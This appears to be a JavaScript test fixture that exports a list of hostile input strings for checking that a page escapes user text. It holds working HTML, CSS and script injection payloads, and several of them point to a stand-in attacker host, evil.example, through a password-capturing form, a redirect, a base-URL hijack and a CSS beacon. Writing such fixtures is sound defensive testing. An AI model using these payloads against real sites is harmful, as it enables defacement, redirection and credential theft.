// Hostile texts: what somebody may type so that a page would take it for something else than text.

export const hostileTexts = [
  '<script>document.title = "taken"</script>',
  '<img src=x onerror=\'document.title = "taken"\'>',
  '"><svg onload=\'document.title = "taken"\'>',
  "'><iframe srcdoc='<script>top.document.title=1</script>'>",
  '</title><script>document.title = "taken"</script>',
  '</style><script>document.title = "taken"</script>',
  '</textarea><form action=https://evil.example><input name=password>',
  '" autofocus onfocus="document.title = \'taken\'" x="',
  "' style='position:fixed;inset:0' x='",
  '<style>body { display: none }</style>',
  '} body { display: none } .x {',
  '#fff; } body { background: url(https://evil.example/x)',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example/>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  'javascript:document.title="taken"',
  '&lt;script&gt;document.title="taken"&lt;/script&gt;',
  '<!-- --><!--><script>document.title = "taken"</script>-->',
  '{{constructor.constructor("document.title=1")()}} ${document.title=1} <%= 1 %>',
  '\u202E\u2066 <b>\u0007 ]]> <![CDATA[ <a href=//evil.example>here</a>',
]
